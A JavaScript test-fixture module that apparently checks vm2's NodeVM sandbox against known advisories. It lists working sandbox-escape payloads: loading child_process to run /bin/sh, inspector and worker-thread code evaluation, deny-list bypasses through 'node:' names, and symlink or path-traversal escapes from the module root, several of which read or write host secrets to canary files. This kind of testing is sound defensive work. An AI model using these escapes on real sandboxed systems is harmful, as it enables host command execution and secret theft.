// What `require` gives in a NodeVM, and under which names.
'use strict';
const fs = require('fs');
const path = require('path');

/** A package of the host's, which tells that it was loaded with the host's authority. */
const put = (host, at, text) => {
  const file = path.join(host.app, at);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, text);
  return file;
};
const TELLS = (host) => `if (typeof process === 'object' && process.env.ATTACK_SECRET) require('fs').writeFileSync(${JSON.stringify(host.canary)}, process.env.ATTACK_SECRET); module.exports = 'loaded';`;

module.exports = [
  {
    name: 'module-loads-others', advisory: 'GHSA-947f-4v7f-x2v8', kind: 'NodeVM', against: '3.10.5',
    options: { require: { builtin: ['*', '-child_process', '-fs'], external: false } },
    code: ({ canary }) => `const Module = require('module'); Module._load('child_process').execFileSync('/bin/sh', ['-c', 'printf %s "$ATTACK_SECRET" >' + ${canary}])`,
  },
  {
    name: 'threads-without-a-sandbox', advisory: 'GHSA-947f-4v7f-x2v8', kind: 'NodeVM', against: '3.10.5', settle: 1500,
    options: { require: { builtin: ['*', '-child_process', '-fs'], external: false } },
    code: ({ canary }) => `const { Worker } = require('worker_threads'); new Worker('require("fs").writeFileSync(' + JSON.stringify(${canary}) + ', "x")', { eval: true })`,
  },
  {
    name: 'vm-of-the-host', advisory: 'GHSA-947f-4v7f-x2v8', kind: 'NodeVM', against: '3.10.5',
    options: { require: { builtin: ['*', '-child_process', '-fs'], external: false } },
    code: ({ use }) => `const vm = require('vm'); const p = vm.runInThisContext('process'); module.exports = ${use('p')}`,
  },
  {
    name: 'process-loads-others', advisory: 'GHSA-rp36-8xq3-r6c4', kind: 'NodeVM', against: '3.11.2',
    options: { require: { builtin: ['*', '-child_process', '-fs'], external: false } },
    code: ({ use }) => `module.exports = ${use("require('process')")}`,
  },
  {
    name: 'inspector-evaluates', advisory: 'GHSA-rp36-8xq3-r6c4', kind: 'NodeVM', against: '3.11.2', settle: 800,
    options: { require: { builtin: ['*', '-child_process', '-inspector', '-fs'], external: false } },
    code: ({ canary }) => `const { Session } = require('inspector/promises'); const s = new Session(); s.connect();
      s.post('Runtime.evaluate', { expression: 'process.mainModule.require("fs").writeFileSync(' + JSON.stringify(${canary}) + ', process.env.ATTACK_SECRET)' }); 1`,
  },
  {
    name: 'denied-by-its-other-name', advisory: 'GHSA-8686-vhfx-7r3j', kind: 'NodeVM', against: '3.11.2',
    options: { require: { builtin: ['*', '-node:child_process', '-node:fs'], external: false } },
    code: ({ canary }) => `require('child_process').execFileSync('/bin/sh', ['-c', 'printf %s "$ATTACK_SECRET" >' + ${canary}])`,
  },
  {
    name: 'denied-and-its-promises-are-not', advisory: 'GHSA-6rh5-qq4q-97xh', kind: 'NodeVM', against: '3.11.2',
    options: { require: { builtin: ['*', '-fs', '-child_process'], external: false } },
    code: ({ canary }) => `require('fs/promises').writeFile(${canary}, 'x'); 1`,
  },
  {
    name: 'all-there-is', advisory: 'by design: the host\'s own fs', kind: 'NodeVM', against: '3.12.2',
    options: { require: { builtin: ['*'], external: false } },
    code: ({ canary, secretFile }) => `const fs = require('fs'); module.exports = fs.readFileSync(${secretFile}, 'utf8'); fs.writeFileSync(${canary}, module.exports)`,
  },
  {
    name: 'link-out-of-the-root', advisory: 'GHSA-cp6g-6699-wx9c', kind: 'NodeVM', against: '3.10.5',
    prepare(host) {
      fs.mkdirSync(path.join(host.directory, 'outside'));
      fs.writeFileSync(path.join(host.directory, 'outside/it.js'), TELLS(host));
      fs.symlinkSync(path.join(host.directory, 'outside/it.js'), path.join(host.app, 'link.js'));
    },
    options: (host) => ({ require: { external: true, root: host.app } }),
    code: `module.exports = require('./link.js')`,
  },
  {
    name: 'name-within-a-name', advisory: 'GHSA-c48m-32m9-vx93', kind: 'NodeVM', against: '3.11.2',
    prepare(host) {
      put(host, 'node_modules/pad/index.js', 'module.exports = 1');
      put(host, 'node_modules/evil-pad/index.js', TELLS(host));
    },
    options: (host) => ({ require: { external: ['pad'], builtin: [], resolve: (id) => path.join(host.app, 'node_modules', id) } }),
    code: `module.exports = require('evil-pad')`,
  },
  {
    name: 'name-that-leads-out', advisory: 'GHSA-c48m-32m9-vx93', kind: 'NodeVM', against: '3.11.2',
    prepare(host) {
      put(host, 'node_modules/pad/index.js', 'module.exports = 1');
      put(host, 'node_modules/evil/index.js', TELLS(host));
    },
    options: (host) => ({ require: { external: ['pad'], builtin: [], resolve: (id) => path.join(host.app, 'node_modules', id) } }),
    code: `module.exports = require('pad/../evil')`,
  },
  {
    name: 'library-from-the-disk', advisory: 'GHSA-j3hm-6rg5-mchv', kind: 'NodeVM', against: '3.11.2',
    options: () => ({ require: { external: true, builtin: [] }, sandbox: { place: require.resolve(process.argv[3]) } }),
    code: ({ canary }) => `const { NodeVM } = require(place); module.exports = new NodeVM({ require: { builtin: ['fs'] } }).run('require("fs").writeFileSync(' + JSON.stringify(${canary}) + ', "x")')`,
  },
  {
    name: 'marks-of-the-host', advisory: 'GHSA-9g8x-92q2-p28f', kind: 'NodeVM', against: '3.11.2', reaches: 'secret of its env',
    prepare: () => require('perf_hooks').performance.mark(process.env.ATTACK_SECRET),
    options: { require: { builtin: ['*', '-fs', '-child_process'], external: false } },
    code: `module.exports = require('perf_hooks').performance.getEntriesByType('mark').map((it) => it.name).join(' ')`,
  },
  {
    name: 'names-are-looked-up-elsewhere', advisory: 'GHSA-m5w8-4gq2-6f8x', kind: 'NodeVM', against: '3.11.2', reaches: 'changed: who resolves names',
    options: { require: { builtin: ['*', '-fs', '-child_process'], external: false } },
    code: `require('dns').setServers(['127.0.0.1:5353']); 1`,
    wins: () => require('dns').getServers().includes('127.0.0.1:5353') && 'changed: who resolves names',
  },
  {
    name: 'agent-of-the-host', advisory: 'GHSA-h85j-hv3c-qfgq', kind: 'NodeVM', against: '3.11.2', reaches: 'changed: its agent',
    options: { require: { builtin: ['http'], external: false } },
    code: `const { globalAgent } = require('http'); globalAgent.on('free', (socket, options) => {}); 1`,
    prepare: (host) => { host.state.listeners = require('http').globalAgent.listenerCount('free'); },
    wins: (host) => require('http').globalAgent.listenerCount('free') > host.state.listeners && 'changed: its agent',
  },
];
